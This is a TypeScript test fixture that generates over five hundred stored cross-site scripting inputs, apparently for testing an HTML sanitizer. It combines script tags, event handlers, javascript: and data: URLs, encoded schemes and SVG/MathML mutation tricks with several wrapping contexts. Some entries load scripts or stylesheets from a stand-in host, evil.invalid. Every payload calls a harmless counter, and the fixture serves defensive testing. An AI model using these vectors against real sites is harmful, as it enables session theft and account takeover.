/** Calls that say that something ran; the page under test counts them. */
const RUN = 'ran()';
/** The same without brackets and quotes, for places that lose them. */
const BARE = 'ran``';

const urls = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==`,
  `//evil.invalid/x`,
  `/\\evil.invalid/x`,
];

/** What tries to run, by the way it takes: elements, events, addresses, other namespaces, and text that changes when it is read twice. */
const tries: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>`,
  `<script/x>${RUN}</script/x>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script\n>${RUN}</script\n>`,
  `<svg><script>${RUN}</script></svg>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x:x onerror\n=\n"${RUN}">`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<img src="x\`> \`"onerror=${RUN}>`,
  `<img srcset="x 1x" onerror=${BARE}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${BARE}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values=javascript:${RUN} /><text x=20 y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x">`,
  `<math><mtext><table><mglyph><style><img src onerror=${RUN}>`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><p><style><g title="</style><img src onerror=${RUN}>"></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><a title="</title><img src=x onerror=${RUN}>"></title>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}><option>x</select>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div style="animation-name:marquee;animation-duration:1s" onanimationstart=${RUN}>x</div>`,
  `<p style="background:url(javascript:${RUN})">x</p>`,
  `<style>@import '//evil.invalid/x.css';</style>`,
  `<link rel=stylesheet href=//evil.invalid/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href=//evil.invalid/>`,
  `<form action=javascript:${RUN}><button autofocus>x</button></form>`,
  `<p onclick=${RUN} onmouseover=${RUN} tabindex=0>x</p>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--[if IE]><script>${RUN}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  ...urls.map((url) => `<a href="${url}">x</a>`),
];

/** Where it stands in what somebody wrote. */
const places: readonly ((given: string) => string)[] = [
  (given) => given,
  (given) => `<p>before ${given} after</p>`,
  (given) => `<ul><li>one</li><li>${given}</li></ul>`,
  (given) => `<h3>${given}</h3><p>text</p>`,
  (given) => `<a href="/help">${given}</a>`,
  (given) => `<strong><em>${given}</strong></em>`,
  (given) => `<p title='${given}'>x</p>`,
  (given) => `<blockquote>\n${given.toUpperCase().replaceAll('RAN', 'ran')}`,
];

/** Over five hundred texts that try to run something where they are shown. Each calls `ran`. */
export const STORED_SCRIPTS: readonly string[] = tries.flatMap((given) => places.map((place) => place(given)));
